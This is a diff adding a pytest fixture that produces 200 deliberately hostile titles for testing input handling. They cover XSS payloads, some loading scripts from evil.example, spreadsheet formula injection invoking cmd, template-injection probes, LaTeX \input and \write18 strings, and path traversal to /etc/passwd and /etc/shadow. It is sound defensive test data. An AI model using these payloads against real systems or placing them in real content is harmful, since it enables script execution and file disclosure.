@@ -115,3 +115,37 @@ def reference():
     if not REFERENCE.exists():
         pytest.skip(f"needs the reference values {REFERENCE.name}, beside the checkout")
     return json.loads(REFERENCE.read_text())["records"]
+
+
+@pytest.fixture(scope="session")
+def hostile():
+    """Return 200 titles that would like to be scripts, formulas, templates, mathematics or paths."""
+    scripts = [
+        "<script>alert({n})</script>",
+        "</td></tr></table><script src=//evil.example/{n}.js></script>",
+        "<img src=x onerror=alert({n})>",
+        '"><svg onload=alert({n})>',
+        '<a href="javascript:alert({n})">x</a>',
+        "</style><style>@import 'http://evil.example/{n}'</style>",
+        "</title><base href=http://evil.example/{n}>",
+        "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
+        "' onmouseover='alert({n})",
+        "<!--{n}--><ScRiPt>alert(1)</sCrIpT>",
+    ]
+    formulas = [
+        "=cmd|' /C calc'!A{n}",
+        "+cmd|{n}",
+        "-{n}+1+cmd|' /C calc'!A0",
+        "@SUM(1+{n})*cmd|' /C calc'!A0",
+        "=1+{n}",
+    ]
+    templates = [
+        "{{{{ 7 * 7 }}}}{n}",
+        "{{% for x in ().__class__.__base__.__subclasses__() %}}{n}{{% endfor %}}",
+        "${{7*7}}{n}",
+    ]
+    mathematics = ["$\\frac{{{n}", "$\\input{{/etc/passwd}}${n}", "$$x^{{{n}}}$", "\\write18{{ls {n}}}"]
+    paths = ["../../../etc/passwd{n}", "/etc/shadow{n}", "C:\\windows\\{n}"]
+    other = ["\u202egnp.exe{n}", "nul\x00l{n}", "line\nfeed{n}", "{n}" + "x" * 100_000, "\u4e2d\u6587{n}"]
+    kinds = [*scripts, *formulas, *templates, *mathematics, *paths, *other]
+    return [kinds[n % len(kinds)].format(n=n) for n in range(200)]
